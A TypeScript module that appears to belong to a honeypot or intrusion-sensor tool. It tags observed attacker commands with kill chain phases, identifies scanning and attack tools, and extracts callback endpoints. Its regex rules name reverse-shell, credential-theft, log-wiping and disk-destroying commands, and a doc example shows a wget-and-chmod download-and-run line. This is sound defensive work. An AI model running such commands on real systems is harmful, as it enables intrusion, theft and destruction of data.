import type { SensorEvent } from "../sensor/sensor_event.ts";

/** Unified Kill Chain phases an event can show (snake_case of the UKC's names). */
export const UKC_PHASES = [
  "reconnaissance",
  "delivery",
  "exploitation",
  "persistence",
  "defense_evasion",
  "command_and_control",
  "discovery",
  "privilege_escalation",
  "execution",
  "credential_access",
  "lateral_movement",
  "collection",
  "exfiltration",
  "impact",
] as const;

/** One of {@linkcode UKC_PHASES}. */
export type UkcPhase = typeof UKC_PHASES[number];

/** What clustering reads from one event, derived once when it is stored. */
export interface EventFeatures {
  /** Kill chain phases the event shows. */
  ukc_phases: UkcPhase[];
  /** A known tool the event names (client ident, user agent, command). */
  tool?: string;
  /** Hosts and ports a command names for downloads or callbacks (`host:port`). */
  c2?: string[];
}

// Order matters only for readability: every matching rule adds its phase.
const COMMAND_RULES: readonly [RegExp, UkcPhase][] = [
  [
    /\b(uname|whoami|id|hostname|ifconfig|ip\s+(a|addr|r|route)|netstat|ss\s+-|ps\s|ps$|w$|last|lscpu|nproc|free|df|lsblk|cat\s+\/proc\/(cpuinfo|meminfo|version)|cat\s+\/etc\/(passwd|issue|os-release|hosts))\b/,
    "discovery",
  ],
  [/\b(wget|curl|tftp|ftpget|fetch)\b|\bscp\s+\S+@/, "delivery"],
  [
    /chmod\s+\+?[0-7]*x|(^|[;&|]\s*)\.\/\S+|\b(sh|bash)\s+\S+\.sh\b|\bpython[23]?\s+-c\b|\bperl\s+-e\b|\bbusybox\s+\S+/,
    "execution",
  ],
  [
    /\bcrontab\b|authorized_keys|\.bashrc|\.profile|\/etc\/rc\.local|systemctl\s+enable|\/etc\/cron/,
    "persistence",
  ],
  [
    /\bsudo\b|(^|[;&|]\s*)su(\s|$)|\bpkexec\b|chmod\s+[ug]\+s|\/etc\/sudoers/,
    "privilege_escalation",
  ],
  [
    /history\s+-c|unset\s+HISTFILE|HISTFILE=\/dev\/null|\bshred\b|rm\s+(-\w+\s+)*\/var\/log|\bchattr\b/,
    "defense_evasion",
  ],
  [/\/dev\/tcp\/|\b(nc|ncat|netcat|socat)\b.*\s\d{1,5}\b|ssh\s+.*-[RD]\s/, "command_and_control"],
  [
    /\/etc\/shadow|\.ssh\/id_|\.aws\/credentials|\.git-credentials|\.env\b|\bmimikatz\b|\bhashdump\b/,
    "credential_access",
  ],
  [
    /\b(ssh|sshpass|scp|rsync)\s+(-\S+\s+)*\S+@\S+|\b(psexec|wmiexec|smbexec)\b/,
    "lateral_movement",
  ],
  [/\b(tar|zip|7z|rar)\s+\S*c\S*\s|\bmysqldump\b|\bfind\s+\/\s.*-name/, "collection"],
  [
    /\b(xmrig|minerd|cpuminer|kinsing|kdevtmpfsi)\b|rm\s+-rf\s+\/(\s|$)|\bmkfs\b|dd\s+if=\/dev\/(zero|urandom)\s+of=\/dev\//,
    "impact",
  ],
];

// Known tools by the strings they announce; first match wins.
const TOOL_RULES: readonly [RegExp, string][] = [
  [/nmap/i, "nmap"],
  [/masscan/i, "masscan"],
  [/zgrab/i, "zgrab"],
  [/hydra/i, "hydra"],
  [/medusa/i, "medusa"],
  [/ncrack/i, "ncrack"],
  [/nikto/i, "nikto"],
  [/sqlmap/i, "sqlmap"],
  [/gobuster|dirbuster|feroxbuster|ffuf/i, "web-fuzzer"],
  [/metasploit|msf/i, "metasploit"],
  [/impacket/i, "impacket"],
  [/crackmapexec|netexec|\bnxc\b/i, "netexec"],
  [/libssh|paramiko|asyncssh/i, "ssh-library"],
  [/^SSH-2\.0-Go\b/, "go-ssh"],
  [/python-requests|aiohttp|urllib/i, "python-http"],
  [/\bcurl\//i, "curl"],
  [/\bwget\//i, "wget"],
];

const URL_REGEXP = /\b(?:https?|ftp|tftp):\/\/([A-Za-z0-9.-]+|\[[0-9A-Fa-f:]+\])(?::(\d{1,5}))?/g;
const DEV_TCP_REGEXP = /\/dev\/(?:tcp|udp)\/([A-Za-z0-9.-]+)\/(\d{1,5})/g;
// Options may take a value (`-e /bin/sh`); the host needs a dot, so a bare port is not one.
const NC_REGEXP =
  /\b(?:nc|ncat|netcat)\s+(?:-\S+(?:\s+[^\s-]\S*)?\s+)*([A-Za-z0-9-]+\.[A-Za-z0-9.-]+)\s+(\d{1,5})\b/g;
const DEFAULT_PORT: Record<string, string> = { http: "80", https: "443", ftp: "21", tftp: "69" };

/**
 * The features of one event: kill chain phases from its kind and command,
 * the tool it names and the endpoints its command reaches. Pure.
 *
 * @example
 * ```ts
 * import type { SensorEvent } from "../sensor/sensor_event.ts";
 * declare const e: SensorEvent; // kind "command", command "wget http://198.51.100.7/x; chmod +x x"
 * eventFeatures(e); // { ukc_phases: ["delivery", "execution"], c2: ["198.51.100.7:80"] }
 * ```
 */
export function eventFeatures(event: SensorEvent): EventFeatures {
  const phases = new Set<UkcPhase>();
  if (event.kind === "connect" || event.kind === "request") phases.add("reconnaissance");
  if (event.kind === "auth_attempt" || event.kind === "credential") {
    phases.add("credential_access");
  }
  if (event.kind === "auth_success") phases.add("exploitation");
  if (event.kind === "file_transfer") {
    phases.add(event.direction === "download" ? "exfiltration" : "delivery");
  }
  const command = typeof event.command === "string" ? event.command : "";
  if (event.kind === "command") {
    for (const [rule, phase] of COMMAND_RULES) if (rule.test(command)) phases.add(phase);
  }
  const features: EventFeatures = {
    ukc_phases: UKC_PHASES.filter((p) => phases.has(p)),
  };
  const announced = [event.client_ident, event.user_agent, command]
    .filter((s): s is string => typeof s === "string" && s !== "");
  for (const text of announced) {
    const tool = TOOL_RULES.find(([rule]) => rule.test(text));
    if (tool) {
      features.tool = tool[1];
      break;
    }
  }
  const c2 = command ? endpoints(command) : [];
  if (c2.length > 0) features.c2 = c2;
  return features;
}

function endpoints(command: string): string[] {
  const found = new Set<string>();
  for (const m of command.matchAll(URL_REGEXP)) {
    const scheme = m[0].slice(0, m[0].indexOf(":")).toLowerCase();
    found.add(`${m[1]}:${m[2] ?? DEFAULT_PORT[scheme]}`);
  }
  for (const m of command.matchAll(DEV_TCP_REGEXP)) found.add(`${m[1]}:${m[2]}`);
  for (const m of command.matchAll(NC_REGEXP)) found.add(`${m[1]}:${m[2]}`);
  return [...found];
}
